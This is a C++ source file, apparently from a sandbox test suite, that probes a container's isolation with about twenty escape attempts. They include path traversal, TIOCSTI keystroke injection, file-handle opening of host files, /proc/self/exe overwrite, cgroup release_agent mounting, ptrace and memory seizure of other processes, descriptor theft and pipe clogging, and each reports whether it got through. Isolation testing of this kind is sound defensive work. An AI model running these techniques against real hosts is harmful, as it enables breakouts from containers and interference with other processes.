// Verb "attack": what a hostile command in a container tries. Each prints "key=value" lines: "ok"
// where it got through, else the errno.
#include <dirent.h>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <climits>
#include <csignal>
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <initializer_list>

#include "payload_calls.hpp"

namespace {

const char* came_of(long result) { return result >= 0 ? "ok" : strerrorname_np(errno); }

/// The first line of a file, or the errno.
void print_line(const char* key, int fd) {
  char text[256] = {};
  const ssize_t n = fd >= 0 ? read(fd, text, sizeof text - 1) : -1;
  if (n < 0)
    std::printf("%s=%s\n", key, strerrorname_np(errno));
  else
    std::printf("%s=%.*s\n", key, static_cast<int>(std::strcspn(text, "\n")), text);
  if (fd >= 0) close(fd);
}

/// A path of the host, reached from a directory: reach FD PATH; FD -100 is the working directory.
int reach(int argc, char** argv) {
  if (argc < 5) return 2;
  char path[PATH_MAX];
  std::snprintf(path, sizeof path, "../../../../../../../../../../../..%s", argv[4]);
  print_line("reach", openat(std::atoi(argv[3]), path, O_RDONLY | O_CLOEXEC));
  return 0;
}

/// Types on the terminal that standard input is. With "wide" bits that the kernel does not look at
/// are set in the request.
int type(int argc, char** /*argv*/) {
  const unsigned long wide = argc > 3 ? 1UL << 32U : 0;
  const char* text = "owned\n";
  const char* result = "ok";
  for (; *text != 0; ++text)
    if (syscall(SYS_ioctl, 0, wide | TIOCSTI, text) < 0) result = strerrorname_np(errno);
  std::printf("type=%s\n", result);
  char paste = 3;  // TIOCL_PASTESEL
  std::printf("paste=%s\n", came_of(syscall(SYS_ioctl, 0, wide | TIOCLINUX, &paste)));
  return 0;
}

int stream() { return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0); }
int connect_abstract(int s, const char* name) {
  sockaddr_un where{};
  where.sun_family = AF_UNIX;
  std::strncpy(where.sun_path + 1, name, sizeof where.sun_path - 2);
  const auto size =
      static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + std::strlen(where.sun_path + 1));
  return connect(s, reinterpret_cast<sockaddr*>(&where), size);
}

/// Connects to an abstract socket by name.
int connect_to(int argc, char** argv) {
  if (argc < 4) return 2;
  std::printf("connect=%s\n", came_of(connect_abstract(stream(), argv[3])));
  return 0;
}

/// Asks whoever has an abstract address for a command of LXC: command ADDRESS NUMBER.
int command(int argc, char** argv) {
  if (argc < 5) return 2;
  const int s = stream();
  const int request[4] = {std::atoi(argv[4])};
  int answer[4] = {};
  if (connect_abstract(s, argv[3]) != 0 ||
      send(s, request, sizeof request, MSG_NOSIGNAL) != static_cast<ssize_t>(sizeof request) ||
      recv(s, answer, sizeof answer, MSG_WAITALL) != static_cast<ssize_t>(sizeof answer))
    std::printf("answer=%s\n", came_of(-1));
  else
    std::printf("answer=%d\n", answer[0]);
  return 0;
}

/// Opens a file of the file system that "/" is on by its handle: handle TYPE BYTES-IN-HEX.
int handle(int argc, char** argv) {
  if (argc < 5) return 2;
  alignas(8) char room[sizeof(file_handle) + MAX_HANDLE_SZ] = {};
  auto* h = reinterpret_cast<file_handle*>(room);
  h->handle_type = std::atoi(argv[3]);
  h->handle_bytes = static_cast<unsigned>(std::strlen(argv[4]) / 2);
  for (unsigned i = 0; i < h->handle_bytes && i < MAX_HANDLE_SZ; ++i) {
    const char digits[3] = {argv[4][2 * i], argv[4][2 * i + 1], 0};
    h->f_handle[i] = static_cast<unsigned char>(std::strtoul(digits, nullptr, 16));
  }
  const int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  print_line("handle", open_by_handle_at(root, h, O_RDONLY | O_CLOEXEC));
  return 0;
}

/// Looks for a key of the session keyring.
int key(int argc, char** argv) {
  if (argc < 4) return 2;
  constexpr long search = 10, session = -3;  // KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING
  std::printf("key=%s\n", came_of(syscall(SYS_keyctl, search, session, "user", argv[3], 0)));
  return 0;
}

/// Opens for writing, and writes nothing.
int open_write(int argc, char** argv) {
  for (int i = 3; i < argc; ++i) {
    const int fd = open(argv[i], O_WRONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
    std::printf("%s=%s\n", argv[i], came_of(fd));
    if (fd >= 0) close(fd);
  }
  return 0;
}

unsigned looked_at = 0;

/// Says which files below can be written. Those of processes are their own business.
void walk_below(const char* dir, int depth) {
  DIR* d = opendir(dir);
  if (d == nullptr) return;
  while (const dirent* e = readdir(d)) {
    if (e->d_name[0] == '.' || (std::strcmp(dir, "/proc") == 0 && e->d_name[0] <= '9')) continue;
    char path[PATH_MAX];
    if (std::snprintf(path, sizeof path, "%s/%s", dir, e->d_name) >= PATH_MAX) continue;
    struct stat st {};
    if (lstat(path, &st) < 0) continue;
    if (S_ISDIR(st.st_mode) && depth > 0) walk_below(path, depth - 1);
    if (!S_ISREG(st.st_mode)) continue;
    ++looked_at;
    const int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) continue;
    // Root opens what it may only read, too: EIO is what a file without a way to write says.
    if (write(fd, "", 0) >= 0 || errno != EIO) std::printf("writable=%s\n", path);
    close(fd);
  }
  closedir(d);
}
int walk(int argc, char** argv) {
  constexpr int deep = 12;
  for (int i = 3; i < argc; ++i) walk_below(argv[i], deep);
  std::printf("looked_at=%u\n", looked_at);
  return 0;
}

/// Whether one of the directories is a procfs whose kernel files are open.
int unmasked(int argc, char** argv) {
  for (int i = 3; i < argc; ++i)
    for (const char* file : {"sys/kernel/core_pattern", "sysrq-trigger"}) {
      char path[PATH_MAX];
      std::snprintf(path, sizeof path, "%s/%s", argv[i], file);
      const int fd = open(path, O_WRONLY | O_CLOEXEC);
      if (fd < 0) continue;
      std::printf("open=%s\n", path);
      close(fd);
    }
  return 0;
}

/// Started as /proc/self/exe by whoever launched it: what runs is his program. It is kept open over
/// an exec of ours, and written to.
int own_program(int argc, char** argv) {
  if (argc < 4) return 2;
  const int fd = open("/proc/self/exe", O_RDONLY);
  char number[16];
  std::snprintf(number, sizeof number, "%d", fd);
  execl(argv[3], argv[3], "attack", "overwrite", number, nullptr);
  return 91;
}
/// As a launcher's last step: it becomes the command.
int launch(int argc, char** argv) {
  if (argc < 4) return 2;
  execv(argv[3], argv + 3);
  return 91;
}
int overwrite(int argc, char** argv) {
  if (argc < 4) return 2;
  char path[64];
  std::snprintf(path, sizeof path, "/proc/self/fd/%s", argv[3]);
  const int fd = open(path, O_WRONLY | O_CLOEXEC);
  std::printf("overwrite=%s\n", came_of(fd < 0 ? fd : write(fd, "owned", 5)));
  return 0;
}

/// Waits for somebody to enter, and lays hands on him: ambush PATH, which is a file of the host.
int ambush(int argc, char** argv) {
  if (argc < 4) return 2;
  setvbuf(stdout, nullptr, _IONBF, 0);
  std::printf("ready=yes\n");
  const pid_t own = getpid();
  for (int tries = 0; tries < 10000; ++tries, usleep(500)) {
    pid_t other = 0;
    DIR* d = opendir("/proc");
    while (const dirent* e = d != nullptr ? readdir(d) : nullptr)
      if (const pid_t pid = std::atoi(e->d_name); pid > 1 && pid != own) other = pid;
    if (d != nullptr) closedir(d);
    if (other == 0) continue;
    kill(other, SIGSTOP);
    char path[PATH_MAX];
    std::snprintf(path, sizeof path, "/proc/%d/mem", other);
    std::printf("mem=%s\n", came_of(open(path, O_RDWR | O_CLOEXEC)));
    std::printf("trace=%s\n", came_of(ptrace(PTRACE_SEIZE, other, nullptr, nullptr)));
    const char* best = "none";
    for (int fd = 0; fd < 64 && std::strcmp(best, "ok") != 0; ++fd) {
      std::snprintf(path, sizeof path, "/proc/%d/fd/%d/%s", other, fd, argv[3]);
      if (const int file = open(path, O_RDONLY | O_CLOEXEC); file >= 0) best = "ok";
    }
    std::printf("descriptor=%s\n", best);
    return 0;
  }
  std::printf("nobody=came\n");
  return 0;
}

/// The one that is neither the first process nor this one; 0: there is none.
pid_t other_process() {
  pid_t other = 0;
  DIR* d = opendir("/proc");
  while (const dirent* e = d != nullptr ? readdir(d) : nullptr)
    if (const pid_t pid = std::atoi(e->d_name); pid > 1 && pid != getpid()) other = pid;
  if (d != nullptr) closedir(d);
  return other;
}

/// Every way to get hold of a process, or to get somewhere by it: "ok" or "secret" where one leads.
void get_hold_of(pid_t pid, const char* file) {
  char path[PATH_MAX];
  const auto open_its = [&](const char* name, int flags) {
    std::snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return open(path, flags | O_CLOEXEC);
  };
  std::printf("mem=%s\n", came_of(open_its("mem", O_RDWR)));
  for (const char* name : {"environ", "auxv", "maps", "exe", "ns/mnt", "ns/user", "root", "cwd"})
    std::printf("%s=%s\n", name, came_of(open_its(name, O_RDONLY)));
  for (const char* name : {"fd", "map_files"}) {
    const int list = open_its(name, O_RDONLY | O_DIRECTORY);
    DIR* d = list >= 0 ? fdopendir(list) : nullptr;
    const dirent* e = nullptr;
    while ((e = d != nullptr ? readdir(d) : nullptr) != nullptr && e->d_name[0] == '.') {
    }
    std::printf("%s=%s\n", name, came_of(e != nullptr ? 0 : -1));
    if (d != nullptr) closedir(d);
  }
  const auto pidfd = static_cast<int>(syscall(SYS_pidfd_open, pid, 0));
  const char* opened = "none";
  const char* taken = "none";
  const char* led = "nowhere";
  for (int number = 0; number < 300; ++number) {
    char name[PATH_MAX];
    std::snprintf(name, sizeof name, "fd/%d", number);
    if (open_its(name, O_PATH) >= 0) opened = "ok";
    if (syscall(SYS_pidfd_getfd, pidfd, number, 0) >= 0) taken = "ok";
    std::snprintf(name, sizeof name, "fd/%d%s", number, file);
    if (open_its(name, O_RDONLY) >= 0) led = "secret";
  }
  std::printf("opened=%s\ntaken=%s\nled=%s\n", opened, taken, led);
  char byte = 0;
  iovec here{&byte, 1}, there{reinterpret_cast<void*>(0x400000), 1};
  const long n = process_vm_readv(pid, &here, 1, &there, 1, 0);
  // EFAULT: it is let in, and nothing is at that address.
  std::printf("read=%s\n", n < 0 && errno == EFAULT ? "ok" : came_of(n));
  std::printf("trace=%s\n", came_of(ptrace(PTRACE_SEIZE, pid, nullptr, nullptr)));
  close_range(3, ~0U, 0);
}

/// With "asked" it does what each byte of standard input says to who is there besides: 'h' tries to
/// get hold of him, 'k' kills, 's' stops. Else it waits for somebody, and tries. hold FILE [asked],
/// of which FILE is the host's.
int hold(int argc, char** argv) {
  if (argc < 4) return 2;
  setvbuf(stdout, nullptr, _IONBF, 0);
  if (argc == 4) {
    while (other_process() == 0) usleep(1000);
    usleep(200000);  // he is in no hurry
    get_hold_of(other_process(), argv[3]);
    return 0;
  }
  for (char what = 0; read(0, &what, 1) == 1;) {
    const pid_t pid = other_process();
    if (pid != 0 && what == 'h') get_hold_of(pid, argv[3]);
    if (pid != 0 && what != 'h')
      std::printf("signal=%s\n", came_of(kill(pid, what == 'k' ? SIGKILL : SIGSTOP)));
    std::printf("met=%s\n", pid != 0 ? "somebody" : "nobody");
  }
  return 0;
}

/// Tells whoever listens on any descriptor that all went well; then it fails.
int lie(int /*argc*/, char** /*argv*/) {
  unsigned told = 0;
  for (int fd = 3; fd < 1024; ++fd)
    if (write(fd, "exit 0\n", 7) == 7) ++told;
  std::printf("told=%u\n", told);
  std::fflush(stdout);
  return 7;
}

/// Leaves no room in any pipe that it finds open: who wants to say something there waits.
int clog(int /*argc*/, char** /*argv*/) {
  signal(SIGPIPE, SIG_IGN);
  static char much[4096];
  unsigned clogged = 0;
  for (int fd = 3; fd < 1024; ++fd) {
    struct stat st {};
    if (fstat(fd, &st) < 0 || !S_ISFIFO(st.st_mode)) continue;
    const int flags = fcntl(fd, F_GETFL);
    if (flags < 0 || fcntl(fd, F_SETFL, flags | O_NONBLOCK) < 0) continue;
    size_t written = 0;
    for (size_t piece = sizeof much; piece > 0; piece /= 2)
      for (ssize_t n = 0; (n = write(fd, much, piece)) > 0;) written += static_cast<size_t>(n);
    fcntl(fd, F_SETFL, flags);
    if (written > 0) ++clogged;
  }
  std::printf("clogged=%u\n", clogged);
  return 0;
}

/// Is there for ten seconds after the end of what it reads from, or as long as somebody listens.
int haunt(int fd) {
  signal(SIGPIPE, SIG_IGN);
  if (write(1, "ready\n", 6) != 6) return 1;
  char c = 0;
  while (read(fd, &c, 1) > 0) {
  }
  for (int i = 0; i < 200; ++i, usleep(50000))
    if (write(1, "alive\n", 6) != 6) return 0;
  return write(1, "outlived\n", 9) == 9 ? 0 : 1;
}
/// Its standard input ends with the host.
int outlive(int /*argc*/, char** /*argv*/) {
  prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
  return haunt(0);
}
/// In a session of its own, nobody's child, when the first process is killed.
int escape(int /*argc*/, char** /*argv*/) {
  int ends[2];
  if (pipe(ends) < 0) return 1;
  if (fork() != 0) {
    close(ends[0]);
    for (;;) pause();
  }
  close(ends[1]);
  setsid();
  return fork() != 0 ? 0 : haunt(ends[0]);
}

/// Takes the sockets of process 1, and says on them all that could mean anything, with descriptors;
/// then it stays. Needs CAP_SYS_PTRACE.
int flood(int /*argc*/, char** /*argv*/) {
  const auto first = static_cast<int>(syscall(SYS_pidfd_open, 1, 0));
  unsigned taken = 0;
  for (int number = 0; number < 64; ++number) {
    const auto s = static_cast<int>(syscall(SYS_pidfd_getfd, first, number, 0));
    if (s < 0) continue;
    ++taken;
    for (unsigned i = 0; i < 2000; ++i) {
      std::uint32_t words[16] = {i % 32, i};
      iovec part{words, i % 3 == 0 ? i % sizeof words : 8};
      alignas(cmsghdr) char room[CMSG_SPACE(50 * sizeof(int))] = {};
      msghdr message{};
      message.msg_iov = &part;
      message.msg_iovlen = 1;
      if (i % 5 == 0) {
        message.msg_control = room;
        message.msg_controllen = sizeof room;
        cmsghdr* c = CMSG_FIRSTHDR(&message);
        c->cmsg_level = SOL_SOCKET;
        c->cmsg_type = SCM_RIGHTS;
        c->cmsg_len = CMSG_LEN(50 * sizeof(int));
        for (unsigned k = 0; k < 50; ++k)
          std::memcpy(CMSG_DATA(c) + k * sizeof(int), &first, sizeof(int));
      }
      sendmsg(s, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
    }
  }
  std::printf("taken=%u\n", taken);
  std::fflush(stdout);
  for (;;) pause();
}

/// Mounts a hierarchy of cgroup v1, and sets what is run when a cgroup of it is empty: to what it
/// is.
int release_agent(int argc, char** argv) {
  if (argc < 4) return 2;
  const char* dir = "/tmp/of-the-attack";
  mkdir(dir, 0755);
  std::printf("mount=%s\n", came_of(mount("none", dir, "cgroup", 0, argv[3])));
  const int fd = open("/tmp/of-the-attack/release_agent", O_RDWR | O_CLOEXEC);
  char is[PATH_MAX] = {};
  const ssize_t n = fd >= 0 ? read(fd, is, sizeof is) : -1;
  std::printf(
      "agent=%s\n",
      came_of(n < 0 ? n : pwrite(fd, n > 0 ? is : "\n", n > 0 ? static_cast<size_t>(n) : 1, 0)));
  return 0;
}

constexpr struct {
  const char* name;
  int (*run)(int, char**);
} attacks[] = {{"reach", reach},
               {"type", type},
               {"connect", connect_to},
               {"command", command},
               {"handle", handle},
               {"key", key},
               {"open-write", open_write},
               {"walk", walk},
               {"unmasked", unmasked},
               {"own-program", own_program},
               {"launch", launch},
               {"overwrite", overwrite},
               {"ambush", ambush},
               {"hold", hold},
               {"lie", lie},
               {"clog", clog},
               {"outlive", outlive},
               {"escape", escape},
               {"flood", flood},
               {"release-agent", release_agent}};

}  // namespace

int do_attack(int argc, char** argv) {
  if (argc >= 3)
    for (const auto& a : attacks)
      if (std::strcmp(argv[2], a.name) == 0) return a.run(argc, argv);
  std::fprintf(stderr, "payload: no such attack\n");
  return 2;
}
